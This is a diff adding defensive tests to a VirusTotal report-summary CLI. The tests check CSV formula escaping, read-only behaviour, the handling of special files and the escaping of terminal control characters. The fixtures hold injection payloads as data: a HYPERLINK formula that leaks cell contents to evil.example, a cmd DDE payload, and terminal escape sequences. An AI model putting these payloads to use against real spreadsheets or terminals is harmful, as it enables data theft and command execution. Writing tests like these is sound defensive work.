@@ -1,9 +1,10 @@
 import { VtEmulator } from "@vt-harvest/vt-emulator"
+import { spawnSync } from "node:child_process"
 import * as fs from "node:fs"
 import * as path from "node:path"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
 import { csvField, csvLine, row } from "../src/internal/summary.js"
-import { bin, hashes, runCli, tempDir } from "./helpers.js"
+import { bin, hashes, runCli, tempDir, underTerminal } from "./helpers.js"
 
 const key = "summary-test-key-51c0"
 let server: VtEmulator.Server
@@ -132,4 +133,126 @@ describe("summary", () => {
     expect(result.code).toBe(2)
     expect(fs.existsSync(path.join(dir, "nowhere"))).toBe(false)
   })
+})
+
+/** A report document as VirusTotal sends it, with the names and stats given. */
+const report = (id: string, names: ReadonlyArray<string>, malicious = 1) =>
+  JSON.stringify({
+    data: {
+      type: "file",
+      id,
+      attributes: {
+        names,
+        reputation: -12,
+        last_analysis_stats: { malicious, suspicious: 0, undetected: 60, harmless: 0 }
+      }
+    }
+  })
+
+/** Every entry under a directory with its type, size and modification time, to see that nothing changed. */
+const snapshot = (dir: string): Array<string> =>
+  fs.readdirSync(dir, { recursive: true, withFileTypes: false }).map(String).sort().map((name) => {
+    const stat = fs.lstatSync(path.join(dir, name))
+    return `${name} ${stat.mode} ${stat.size} ${stat.mtimeMs}`
+  })
+
+describe("summary at the edges", () => {
+  it("defuses cells a spreadsheet would run as a formula: =HYPERLINK(…), +, -, @, tab, CR; numbers stay numbers", async () => {
+    const dir = tempDir()
+    const out = path.join(dir, "out")
+    fs.mkdirSync(out)
+    const names = [
+      "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"invoice.pdf\")",
+      "+cmd|' /C calc'!A0",
+      "-2+3",
+      "@SUM(1,2)",
+      "\tTAB.exe",
+      "\rCR.exe"
+    ]
+    const id = hashes(1, true, "csv")[0]
+    fs.writeFileSync(path.join(out, "one.json"), report(id, [names[0]]))
+    names.slice(1).forEach((name, i) => fs.writeFileSync(path.join(out, `n${i}.json`), report(id, [name])))
+    const result = await runCli(["summary", "out"], { cwd: dir })
+    expect(result.code).toBe(0)
+    const rows = parseCsv(result.stdout).slice(1)
+    const cells = rows.map((r) => r[9]).sort()
+    expect(cells).toEqual(names.map((name) => `'${name}`).sort())
+    // The reputation (-12) is a number, not a formula: kept as it is.
+    expect(new Set(rows.map((r) => r[7]))).toEqual(new Set(["-12"]))
+    expect(csvField("=1+1")).toBe("'=1+1")
+    expect(csvField("-1")).toBe("-1")
+  })
+
+  it("is read-only: creates nothing in the store, works on an immutable directory", async () => {
+    const dir = tempDir()
+    const out = path.join(dir, "out")
+    fs.mkdirSync(out)
+    const id = hashes(1, true, "ro")[0]
+    fs.writeFileSync(path.join(out, `${id}.json`), report(id, ["a.exe"]))
+    fs.writeFileSync(path.join(out, `.${id}.json.tmp-stale`), "{")
+    const before = snapshot(out)
+    const immutable = spawnSync("chattr", ["+i", out]).status === 0
+    try {
+      const result = await runCli(["summary", "out"], { cwd: dir })
+      expect(result.code).toBe(0)
+      expect(parseCsv(result.stdout).slice(1).map((r) => r[0])).toEqual([id])
+    } finally {
+      if (immutable) spawnSync("chattr", ["-i", out])
+    }
+    expect(snapshot(out)).toEqual(before)
+    expect(fs.readdirSync(dir).sort()).toEqual(["out"])
+  })
+
+  it("skips FIFOs, devices, directories and links named like records instead of hanging; lists the rest", async () => {
+    const dir = tempDir()
+    const out = path.join(dir, "out")
+    fs.mkdirSync(out)
+    const id = hashes(1, true, "fifo")[0]
+    fs.writeFileSync(path.join(out, `${id}.json`), report(id, ["kept.exe"]))
+    expect(spawnSync("mkfifo", [path.join(out, "fifo.json")]).status).toBe(0)
+    fs.mkdirSync(path.join(out, "directory.json"))
+    fs.symlinkSync("/dev/zero", path.join(out, "zero.json"))
+    // A character device of its own where the system allows it (root), else the link above stands for one.
+    spawnSync("mknod", [path.join(out, "null.json"), "c", "1", "3"])
+    const result = await runCli(["summary", "out"], { cwd: dir })
+    expect(result.code).toBe(0)
+    expect(parseCsv(result.stdout).slice(1).map((r) => r[0])).toEqual([id])
+  }, 20_000)
+
+  it("names a record it cannot read and still lists the others (exit 1)", async () => {
+    const dir = tempDir()
+    fs.chmodSync(dir, 0o755)
+    const out = path.join(dir, "out")
+    fs.mkdirSync(out)
+    const ids = hashes(3, true, "unreadable")
+    for (const id of ids) fs.writeFileSync(path.join(out, `${id}.json`), report(id, [`${id}.exe`]))
+    fs.chmodSync(path.join(out, `${ids[1]}.json`), 0o000)
+    // Permissions bind everyone but root: as root, the CLI runs as nobody.
+    const asRoot = process.getuid?.() === 0
+    const command = [...(asRoot ? ["runuser", "-u", "nobody", "--"] : []), process.execPath, bin, "summary", "out"]
+    const result = spawnSync(command[0], command.slice(1), { cwd: dir, encoding: "utf8", timeout: 20_000 })
+    expect(result.status).toBe(1)
+    expect(result.stderr).toContain(`warning: ${ids[1]}: cannot read it (`)
+    expect(result.stderr).toContain("EACCES")
+    expect(parseCsv(result.stdout).slice(1).map((r) => r[0]).sort()).toEqual([ids[0], ids[2]].sort())
+  }, 30_000)
+
+  it("on a terminal, the table shows control characters in names escaped, never raw (OSC, CSI, C1)", async () => {
+    const dir = tempDir()
+    const out = path.join(dir, "out")
+    fs.mkdirSync(out)
+    const id = hashes(1, true, "osc")[0]
+    const hostile = ["\u001b]0;pwned\u0007title.exe", "\u001b[31mred\u001b[0m.exe", "\u009b31mc1.exe\u009d0;x\u009c"]
+    fs.writeFileSync(path.join(out, `${id}.json`), report(id, hostile))
+    const result = await underTerminal(
+      `stty cols 250; ${JSON.stringify(process.execPath)} ${JSON.stringify(bin)} summary out`,
+      {
+        cwd: dir
+      }
+    )
+    expect(result.code).toBe(0)
+    expect(result.stdout).toContain(id.slice(0, 20))
+    expect(result.stdout).toContain("title.exe")
+    expect(result.stdout).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/)
+  }, 20_000)
 })
